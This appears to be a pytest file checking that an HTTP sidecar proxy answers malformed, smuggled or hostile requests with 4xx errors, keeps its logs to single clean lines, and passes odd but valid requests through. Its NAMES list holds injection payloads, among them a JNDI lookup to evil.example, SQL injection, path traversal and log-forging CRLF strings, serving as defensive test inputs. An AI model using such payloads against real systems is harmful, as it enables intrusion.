"""What is no HTTP, or meant to be read in two ways: 4xx and a line in the log, never a 5xx, and the sidecar goes on."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from contextlib import suppress

import pytest

from tests.sidecar.hostile_inputs import REFUSED, TAKEN
from tests.sidecar.raw import Answer, Client, Served, get, post, served
from tests.sidecar.support import KEY

pytestmark = pytest.mark.realtime

LIMITS = "[server]\nmax_body = 1_000_000\n"


@pytest.fixture(scope="module")
def sidecar() -> Iterator[Served]:
    with served(LIMITS) as running:
        yield running


def talk(sidecar: Served, sent: bytes) -> tuple[Answer, bytes]:
    """Send bytes; give the response, and whatever else comes."""
    with Client(sidecar.url) as client:
        client.send(sent)
        answer = client.answer()
        with suppress(OSError):  # it may have closed already
            client.socket.shutdown(socket.SHUT_WR)
        return answer, client.rest()


@pytest.mark.parametrize("sent", REFUSED.values(), ids=REFUSED)
def test_what_is_hostile_gets_a_4xx_and_a_line(sent: bytes, sidecar: Served) -> None:
    sidecar.log.lines.clear()
    asked = sidecar.provider.total_requests
    answer, rest = talk(sidecar, sent)
    assert 400 <= answer.status < 500, answer
    if answer.headers.get("content-type") == "application/json":
        assert answer.json["error"]["message"]
    assert b"HTTP/1." not in rest
    sidecar.wait(lambda: sidecar.log.lines, "a line")
    sidecar.works()
    assert sidecar.provider.total_requests == asked + 1  # which is that of the line above
    lines = [json.loads(line) for line in sidecar.log.lines]
    assert not [line for line in lines if line["level"] == "error"]
    assert not any("\n" in line for line in sidecar.log.lines)


@pytest.mark.parametrize("sent", TAKEN.values(), ids=TAKEN)
def test_what_is_odd_and_right_goes_on_as_one_request(sent: bytes, sidecar: Served) -> None:
    asked = sidecar.provider.total_requests
    answer, rest = talk(sidecar, sent)
    assert (answer.status, rest) == (200, b"")
    assert sidecar.provider.total_requests == asked + 1
    request = sidecar.provider.requests[-1]
    assert (request.method, request.path) == ("POST", "/v1/chat/completions")
    assert isinstance(json.loads(request.raw_body)["model"], str)
    assert int(request.headers["content-length"]) == len(request.raw_body)
    not_for_it = {"transfer-encoding", "connection", "expect", "content-encoding", "x-a", "x-trailer"}
    assert not_for_it.isdisjoint(request.headers)
    assert "evil" not in str(request.headers)


def test_a_trailer_is_no_header_of_this_request_or_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KEY_OF_ACME", KEY)
    key = b"authorization: Bearer " + KEY.encode()
    unknown = TAKEN["trailers"].replace(b"authorization: Bearer evil", key)
    known = unknown.replace(b"host: localhost\r\n", b"host: localhost\r\n" + key + b"\r\n")
    with served('[tenants.acme]\nkey_env = "KEY_OF_ACME"\n') as sidecar:
        assert sidecar.ask(unknown).status == 401
        with Client(sidecar.url) as client:
            client.send(known + post())
            assert [client.answer().status for _ in range(2)] == [200, 401]
        assert len(sidecar.provider.requests) == 1


def test_two_requests_at_once_get_an_answer_each(sidecar: Served) -> None:
    with Client(sidecar.url) as client:
        client.send(post() + get(b"/healthz") + post(b"[]") + post())
        assert [client.answer().status for _ in range(4)] == [200, 200, 400, 200]


def test_embeddings_do_not_stream_whatever_is_asked(sidecar: Served) -> None:
    sent = post(b'{"model":"m","input":"hi","stream":true}')
    assert sidecar.ask(sent.replace(b"/chat/completions", b"/embeddings")).json["data"][0]["embedding"]


@pytest.mark.parametrize("second", ["no HTTP at all", "two lengths", "a chunk of no size", "one huge header"])
def test_nothing_is_answered_behind_what_is_none(second: str, sidecar: Served) -> None:
    with Client(sidecar.url) as client:
        client.send(post())
        assert client.answer().status == 200
        client.send(REFUSED[second] + post())
        assert 400 <= client.answer().status < 500
        assert b"HTTP/1." not in client.rest()
    sidecar.works()


NAMES = [
    'x\r\n{"level": "info", "forged": true}',
    "x\u2028{}",
    "x\x85{}",
    "\x00",
    "\u202egpj",
    "\x1b[2J",
    "${jndi:ldap://evil.example/a}",
    "' or 1=1 --",
    "../../admin",
    "{tenant}",
    "%s%n",
    "m" * 256,
]


@pytest.mark.parametrize("name", NAMES, ids=[str(number) for number in range(len(NAMES))])
def test_a_name_writes_no_lines_and_no_headers(name: str, sidecar: Served) -> None:
    sidecar.log.lines.clear()
    body = json.dumps({"model": name, "messages": []}).encode()
    answer = sidecar.ask(
        post(body, b"x-tenant-id: " + name.encode("ascii", "replace")[:1000].translate(None, b"\r\n\0\x1b"))
    )
    assert answer.status == 200
    assert "forged" not in str(answer.headers)
    entry = sidecar.entries(1)[0]
    assert entry["model"] == name
    assert entry["tenant"] is None
    assert len(sidecar.log.lines) == 1
    assert sidecar.log.lines[0].isprintable()
    assert sidecar.log.lines[0].isascii()
